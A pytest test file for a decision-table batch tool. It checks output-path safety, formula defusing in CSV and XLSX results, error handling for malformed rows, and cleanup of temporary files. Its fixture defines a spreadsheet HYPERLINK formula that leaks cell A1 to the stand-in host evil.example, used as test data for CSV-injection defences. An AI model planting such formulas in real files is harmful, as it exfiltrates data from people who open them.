"""Hostile batch runs: never write over a file read, a bad row never stops the batch,
no formula reaches a spreadsheet, no temporary file outlives a killed run."""

from __future__ import annotations

import csv
import json
import os
import time

import openpyxl
import pytest
from helpers_core import decision, write_xlsx
from helpers_hostile import digest, dtable, dtable_here, error_line

from engine.batch import MAX_LINE_LENGTH, csv_safe
from engine.files import remove_stale_parts, replacing

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'


@pytest.fixture
def rulebook(tmp_path):
    rows = decision(
        "d", "U", ["x"], ["o"],
        [["R1", '"a"', '"yes"'], [HYPERLINK, '"b"', '"+1"'], ["R3", '"c"', '"@SUM(A1)"']],
    )  # fmt: skip
    return write_xlsx(tmp_path / "rules.xlsx", {"d": rows})


def cases(path, *lines: str):
    path.write_text("x\n" + "".join(line + "\n" for line in lines), "utf-8")
    return path


# ------------------------------------------------------------------ 1. --out is never a file the command reads


def test_out_naming_the_rulebook_is_refused_and_the_rulebook_is_unchanged(rulebook, tmp_path):
    source = cases(tmp_path / "cases.csv", "a")
    before = digest(rulebook)
    run = dtable_here("batch", str(rulebook), "-d", "d", "--in", str(source), "--out", str(rulebook), "--no-progress")
    assert error_line(run) == f"results file {rulebook} is {rulebook}, which this command reads; write to another file"
    assert digest(rulebook) == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cases.csv", "rules.xlsx"]


@pytest.mark.parametrize("kind", ["hard link", "symbolic link", "dotted path"])
def test_out_reaching_the_rulebook_another_way_is_refused(rulebook, tmp_path, kind):
    source = cases(tmp_path / "cases.csv", "a")
    other = tmp_path / "sub"
    other.mkdir()
    if kind == "hard link":
        target = other / "results.xlsx"
        os.link(rulebook, target)
    elif kind == "symbolic link":
        target = other / "results.xlsx"
        target.symlink_to(rulebook)
    else:
        target = other / ".." / "rules.xlsx"
    before = digest(rulebook)
    run = dtable_here("batch", str(rulebook), "-d", "d", "--in", str(source), "--out", str(target), "--no-progress")
    assert error_line(run) == f"results file {target} is {rulebook}, which this command reads; write to another file"
    assert digest(rulebook) == before


def test_a_workbook_written_into_the_rulebook_folder_is_refused(rulebook, tmp_path):
    source = cases(tmp_path / "cases.csv", "a")
    target = tmp_path / "results.xlsx"
    run = dtable_here("batch", str(tmp_path), "-d", "d", "--in", str(source), "--out", str(target), "--no-progress")
    assert error_line(run) == (
        f"results file {target} is inside the rulebook folder {tmp_path}, where it would be read "
        "as a rulebook next time; write it to another folder"
    )
    assert not target.exists()


def test_csv_results_next_to_a_rulebook_folder_are_fine(rulebook, tmp_path):
    source = cases(tmp_path / "cases.csv", "a")
    run = dtable_here("batch", str(tmp_path), "-d", "d", "--in", str(source), "--out", str(tmp_path / "r.csv"), "--no-progress")
    assert run.returncode == 0, run.stderr


# ------------------------------------------------------------------ 7. no formula in the results


def test_csv_results_defuse_formulas_by_default(rulebook, tmp_path):
    source = cases(tmp_path / "cases.csv", "b", "c", "=1+1", "-", "\tx")
    run = dtable_here("batch", str(rulebook), "-d", "d", "--in", str(source), "--out", str(tmp_path / "r.csv"), "--no-progress")
    assert run.returncode == 1  # three rows match no rule
    with open(tmp_path / "r.csv", newline="", encoding="utf-8") as file:
        rows = list(csv.reader(file))
    assert rows[1] == ["b", "'+1", "'" + HYPERLINK, ""]
    assert rows[2][:3] == ["c", "'@SUM(A1)", "R3"]
    assert [r[0] for r in rows[3:]] == ["'=1+1", "'-", "'\tx"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_csv_raw_writes_values_as_they_are(rulebook, tmp_path):
    source = cases(tmp_path / "cases.csv", "b")
    run = dtable_here(
        "batch", str(rulebook), "-d", "d", "--in", str(source), "--out", str(tmp_path / "r.csv"), "--no-progress", "--csv-raw"
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    with open(tmp_path / "r.csv", newline="", encoding="utf-8") as file:
        assert list(csv.reader(file))[1] == ["b", "+1", HYPERLINK, ""]


@pytest.mark.parametrize("raw", [False, True], ids=["guarded", "csv-raw"])
def test_the_duckdb_engine_guards_formulas_as_the_python_engine_does(rulebook, tmp_path, raw):
    source = cases(tmp_path / "cases.csv", "b", "c", "=1+1", "-", "+x", "a")
    written = {}
    for engine in ("python", "duckdb"):
        target = tmp_path / f"{engine}.csv"
        flags = ["--csv-raw"] if raw else []
        run = dtable_here("batch", str(rulebook), "-d", "d", "--in", str(source), "--out", str(target), "--no-progress", "--engine", engine, *flags)  # fmt: skip
        assert run.returncode == 1, run.stderr
        written[engine] = target.read_bytes()
    assert written["duckdb"] == written["python"]
    rows = list(csv.reader(written["duckdb"].decode("utf-8").splitlines(keepends=True)))
    assert rows[1] == (["b", "+1", HYPERLINK, ""] if raw else ["b", "'+1", "'" + HYPERLINK, ""])


def test_text_that_looks_like_a_number_is_defused_too():
    assert csv_safe("-5") == "'-5"  # a text cell; numbers the engine computed are written as numbers
    assert csv_safe("läkare") == "läkare" and csv_safe("") == ""


def test_xlsx_results_store_every_string_as_text(rulebook, tmp_path):
    source = cases(tmp_path / "cases.csv", "b", "=A1*2")
    target = tmp_path / "r.xlsx"
    run = dtable_here("batch", str(rulebook), "-d", "d", "--in", str(source), "--out", str(target), "--no-progress")
    assert run.returncode == 1, run.stderr
    sheet = openpyxl.load_workbook(target)["results"]
    matched = sheet["C2"]
    assert (matched.value, matched.data_type) == (HYPERLINK, "s")
    assert (sheet["A3"].value, sheet["A3"].data_type) == ("=A1*2", "s")
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


# ------------------------------------------------------------------ 10. a bad row never stops the batch


def test_a_10_mb_csv_line_is_that_rows_error(rulebook, tmp_path):
    source = tmp_path / "cases.csv"
    source.write_text("x\na\n" + "b" * (10 * 2**20) + "\nc\n", "utf-8")
    target = tmp_path / "r.csv"
    run = dtable("batch", str(rulebook), "-d", "d", "--in", str(source), "--out", str(target), "--no-progress")
    assert run.returncode == 1
    assert "3 rows" in run.stderr and "2 ok" in run.stderr and "1 failed" in run.stderr
    with open(target, newline="", encoding="utf-8") as file:
        rows = list(csv.DictReader(file))
    assert [r["o"] for r in rows] == ["yes", "", "'@SUM(A1)"]
    assert rows[1]["error"] == f"line 3 is {10 * 2**20 + 1:,} characters long; at most {MAX_LINE_LENGTH:,} are read"


def test_a_field_past_csvs_limit_and_a_non_utf8_line_are_their_rows_errors(rulebook, tmp_path):
    source = tmp_path / "cases.csv"
    source.write_bytes(b"x\n" + b'"' + b"q" * 200_000 + b'"\n' + b"l\xe4kare\n" + b"a\n")
    target = tmp_path / "r.jsonl"
    run = dtable_here("batch", str(rulebook), "-d", "d", "--in", str(source), "--out", str(target), "--no-progress")
    assert run.returncode == 1
    big, latin1, fine = [json.loads(line) for line in target.read_text("utf-8").splitlines()]
    assert big["error"].startswith("line 2: field larger than field limit")
    assert latin1["error"] == "line 3 is not UTF-8 text (at column 2); save the file as UTF-8"
    assert fine == {"x": "a", "o": "yes", "matched": ["R1"], "error": None}


def test_jsonl_nan_infinity_and_bad_lines_are_errors_naming_the_line(rulebook, tmp_path):
    source = tmp_path / "cases.jsonl"
    source.write_bytes(
        b'{"x": "a"}\n{"x": NaN}\n{"x": -Infinity}\n\xff\xfe\n{"x": "a", "x": "b"}\n' + b"[" * 5000 + b"\n{\"x\": \"c\"}\n"
    )
    target = tmp_path / "r.jsonl"
    run = dtable_here("batch", str(rulebook), "-d", "d", "--in", str(source), "--out", str(target), "--no-progress")
    assert run.returncode == 1
    errors = [json.loads(line)["error"] for line in target.read_text("utf-8").splitlines()]
    assert errors == [
        None,
        "line 2: NaN is not a JSON value (JSON has no NaN or infinities); write null for a missing value",
        "line 3: -Infinity is not a JSON value (JSON has no NaN or infinities); write null for a missing value",
        "line 4 is not UTF-8 text (at column 1); save the file as UTF-8",
        "line 5: the name `x` appears twice in one object; give each input once",
        "line 6: nested more than 64 deep; at most 64 levels of arrays and objects are read",
        None,
    ]


# ------------------------------------------------------------------ 10. no temporary file outlives a killed run


def test_a_killed_runs_part_file_is_removed_by_the_next_run(rulebook, tmp_path):
    target = tmp_path / "r.csv"
    stale = tmp_path / ".r.csv.abc123.part"
    stale.write_text("half a result", "utf-8")
    old = time.time() - 3600
    os.utime(stale, (old, old))
    source = cases(tmp_path / "cases.csv", "a")
    run = dtable_here("batch", str(rulebook), "-d", "d", "--in", str(source), "--out", str(target), "--no-progress")
    assert run.returncode == 0, run.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["cases.csv", "r.csv", "rules.xlsx"]


def test_a_running_writers_part_file_is_left_alone(tmp_path):
    target = tmp_path / "r.csv"
    with replacing(target) as temporary:
        old = time.time() - 3600
        os.utime(temporary, (old, old))  # old, but its writer holds the lock
        assert remove_stale_parts(target) == []
        assert temporary.exists()
        temporary.write_text("done", "utf-8")
    assert target.read_text("utf-8") == "done"
    assert not temporary.exists()


def test_a_fresh_unlocked_part_file_is_left_alone(tmp_path):
    target = tmp_path / "r.csv"
    just_made = tmp_path / ".r.csv.xyz.part"  # another run between creating and locking it
    just_made.write_text("", "utf-8")
    assert remove_stale_parts(target) == []
    assert just_made.exists()


def test_numbers_the_engine_computed_are_written_as_numbers(tmp_path):
    rows = decision("d", "U", ["x"], ["o"], [["R1", "-", "x - 10"]], types={"x": "number"})
    book = write_xlsx(tmp_path / "rules.xlsx", {"d": rows})
    source = cases(tmp_path / "cases.csv", "5")
    run = dtable_here("batch", str(book), "-d", "d", "--in", str(source), "--out", str(tmp_path / "r.csv"), "--no-progress")
    assert run.returncode == 0, run.stderr
    with open(tmp_path / "r.csv", newline="", encoding="utf-8") as file:
        assert list(csv.reader(file))[1] == ["5", "-5", "R1", ""]
